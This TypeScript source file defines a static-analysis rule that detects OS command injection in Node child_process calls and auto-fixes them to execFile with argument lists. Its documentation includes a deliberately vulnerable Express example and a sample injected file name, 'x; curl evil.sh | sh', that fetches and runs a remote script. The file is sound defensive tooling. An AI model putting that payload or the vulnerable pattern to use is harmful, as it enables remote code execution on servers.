import type { Node } from 'web-tree-sitter';
import { javascriptNames, localNameOf } from '../../analysis/javascript-names';
import { builtString } from '../../analysis/javascript-strings';
import { callArguments, callsNamed, objectProperties, propertyValue } from '../../analysis/javascript-syntax';
import { typescriptSinks } from '../../analysis/models/typescript-models';
import type { TypeScriptSinkSpec } from '../../analysis/models/typescript-model';
import { taintReport } from '../../analysis/taint/report';
import { typescriptTaint } from '../../analysis/typescript-taint';
import type { Fix } from '../../findings';
import type { TextEdit } from '../../text';
import type { Rule, RuleContext } from '../types';
import { tsSinkCalls } from './taint-sink';

/** Functions that run a program without a shell unless `shell: true` is passed; their second argument is the argument list. */
const NO_SHELL = ['spawn', 'spawnSync', 'execFile', 'execFileSync'];
const PROGRAM_SINKS: TypeScriptSinkSpec[] = NO_SHELL.map((fn) => ({ kind: 'shell', callee: `child_process.${fn}`, position: 0 }));
const SHELL_SINKS = typescriptSinks('shell');
/** `exec` -> `execFile`, keeping the calling style (callback or synchronous). */
const ARGUMENT_LIST_FUNCTION: Record<string, string> = { exec: 'execFile', execSync: 'execFileSync' };
/** Characters that mean something to the shell: a command with any of them in its literal text is not split. */
const SHELL_SYNTAX = /[|&;<>()$`\\"'*?[\]#~={}%!\n]/;
const CALLS = callsNamed(...SHELL_SINKS.map((s) => s.callee!.split('.').pop()!), ...NO_SHELL);

export const tsCommandInjection: Rule = {
  meta: {
    id: 'ts.command-injection',
    title: 'Shell command built from untrusted data',
    family: 'typescript',
    cwes: [78],
    severity: 'critical',
    confidence: 'high',
    docs: {
      summary:
        "Finds `child_process.exec`/`execSync` whose command carries request data (or, at medium confidence, argv and environment values), `spawn`/`execFile` with `shell: true` and such data in the program or its arguments, and any of them running a program named by request data (a program named by argv or the environment is configuration). When the command is a template or concatenation whose literal text has no shell syntax and whose values are whole words, the fix switches to `execFile(program, [args])`.",
      why:
        'The shell interprets `;`, `|`, `$(...)` and quotes in the command: a file name such as `x; curl evil.sh | sh` runs the attacker\'s commands with the server\'s rights. Without a shell, each argument reaches the program as one argument, whatever it contains.',
      vulnerable:
        "import { exec } from 'child_process';\nimport express from 'express';\n\nconst app = express();\n\napp.get('/log', (req, res) => {\n  exec(`git log ${req.query.branch}`, (err, stdout) => res.send(stdout));\n});",
      safe:
        "import { execFile } from 'child_process';\nimport express from 'express';\n\nconst app = express();\n\napp.get('/log', (req, res) => {\n  execFile('git', ['log', String(req.query.branch)], (err, stdout) => res.send(stdout));\n});",
      references: ['https://cwe.mitre.org/data/definitions/78.html', 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html', 'https://nodejs.org/api/child_process.html'],
    },
  },
  query: CALLS.query,
  check(match, context) {
    if (!CALLS.accepts(match)) return;
    const call = match.node('call')!;
    const taint = context.analysis(typescriptTaint);
    for (const sink of tsSinkCalls(call, context, SHELL_SINKS)) {
      const hit = taint.taintOf(sink.argument, 'shell');
      if (!hit) continue;
      context.report({
        ...taintReport(hit, sink.argument, sink.name, context),
        message: `${sink.name} runs a shell command built from ${hit.source}; run the program with execFile and an argument list instead`,
        fix: argumentListFix(call, sink.argument, context),
      });
    }
    // A constant program with `shell: true` still hands its arguments to a shell.
    for (const sink of tsSinkCalls(call, context, PROGRAM_SINKS, true)) {
      const argv = sink.args[1]?.type === 'array' ? sink.args[1] : undefined;
      const shell = usesShell(sink.args);
      // Without a shell only the program matters; with one, every argument is shell text.
      const checked = shell ? [sink.argument, ...(argv ? argv.namedChildren.filter((c): c is Node => !!c && c.type !== 'comment') : sink.args[1] ? [sink.args[1]] : [])] : [sink.argument];
      for (const node of checked) {
        const hit = taint.taintOf(node, 'shell');
        // A program chosen by argv or the environment (`process.env.PYTHON`) is configuration, not an attack.
        if (!hit || (node === sink.argument && !shell && hit.trust !== 'remote')) continue;
        const message =
          node === sink.argument
            ? `${sink.name} runs a program named by ${hit.source}; choose the program from a fixed set`
            : `${sink.name} runs a shell (shell: true) with arguments from ${hit.source}; drop shell: true so that arguments stay arguments`;
        context.report({ ...taintReport(hit, node, sink.name, context), message });
      }
    }
  },
};

/** An options object with `shell: true` (or any non-false value) among the call's arguments. */
function usesShell(args: Node[]): boolean {
  return args.slice(1).some((a) => {
    if (a.type !== 'object') return false;
    const value = propertyValue(objectProperties(a).get('shell'));
    return !!value && value.type !== 'false' && value.type !== 'undefined' && value.type !== 'null';
  });
}

/**
 * `exec(`git log ${branch}`, cb)` -> `execFile('git', ['log', branch], cb)`: only when every value is a whole word
 * and the literal text has no shell syntax, so the argument list means what the shell would have run, minus the
 * injection. A bare `exec` imported by name gets `execFile` added to its import.
 */
function argumentListFix(call: Node, command: Node, context: RuleContext): Fix | undefined {
  const built = builtString(command);
  if (!built || !callArguments(call)[0]?.equals(command)) return undefined;
  const words: string[] = [];
  let word: string[] = [];
  let current = '';
  const endWord = () => {
    if (current) word.push(`'${current}'`);
    current = '';
    if (word.length > 1) return false;
    if (word.length === 1) words.push(word[0]);
    word = [];
    return true;
  };
  for (const segment of built.segments) {
    if ('value' in segment) {
      if (current) return undefined; // a value glued to literal text: `--out=${x}`
      word.push(segment.value);
      continue;
    }
    const text = segment.literal;
    if (SHELL_SYNTAX.test(text)) return undefined;
    for (const ch of text) {
      if (/\s/.test(ch)) {
        if (!endWord()) return undefined;
      } else {
        if (word.length > 0) return undefined; // literal text glued after a value
        current += ch;
      }
    }
  }
  if (!endWord() || words.length < 1 || !words[0].startsWith("'")) return undefined;
  const [program, ...args] = words;
  const callee = call.childForFieldName('function')!;
  const property = callee.type === 'member_expression' ? callee.childForFieldName('property') : callee;
  const replacement = property && ARGUMENT_LIST_FUNCTION[property.text];
  const edits: TextEdit[] = [];
  if (callee.type === 'identifier') {
    const names = context.analysis(javascriptNames);
    const original = names.imports.get(callee.text)?.replace(/^node:/, '');
    const fn = original?.split('.').pop();
    const target = fn && ARGUMENT_LIST_FUNCTION[fn];
    if (!target) return undefined;
    const local = localNameOf(names, [`child_process.${target}`]);
    const importEdit = local ? undefined : addNamedImport(callee.text, target, context);
    if (!local && !importEdit) return undefined;
    if (importEdit) edits.push(importEdit);
    edits.push({ start: callee.startIndex, end: callee.endIndex, newText: local ?? target });
  } else if (replacement) {
    edits.push({ start: property!.startIndex, end: property!.endIndex, newText: replacement });
  } else return undefined;
  edits.push({ start: command.startIndex, end: command.endIndex, newText: `${program}, [${args.join(', ')}]` });
  return { title: 'Run the program with execFile and an argument list', edits };
}

/** Adds `name` next to `existing` in its `import { existing } from ...` or `const { existing } = require(...)`. */
function addNamedImport(existing: string, name: string, context: RuleContext): TextEdit | undefined {
  const root = context.file.tree.rootNode;
  for (const statement of root.namedChildren) {
    if (!statement) continue;
    const list =
      statement.type === 'import_statement'
        ? statement.namedChildren.find((c) => c?.type === 'import_clause')?.namedChildren.find((c) => c?.type === 'named_imports')
        : statement.type === 'lexical_declaration' || statement.type === 'variable_declaration'
          ? statement.namedChildren.map((d) => d?.childForFieldName('name')).find((n) => n?.type === 'object_pattern')
          : undefined;
    if (!list) continue;
    const entries = list.namedChildren.filter((c): c is Node => !!c && c.type !== 'comment');
    const binds = entries.some((e) => (e.childForFieldName('alias') ?? e.childForFieldName('name') ?? e.childForFieldName('value') ?? e).text === existing);
    if (!binds) continue;
    const last = entries.at(-1)!;
    return { start: last.endIndex, end: last.endIndex, newText: `, ${name}` };
  }
  return undefined;
}
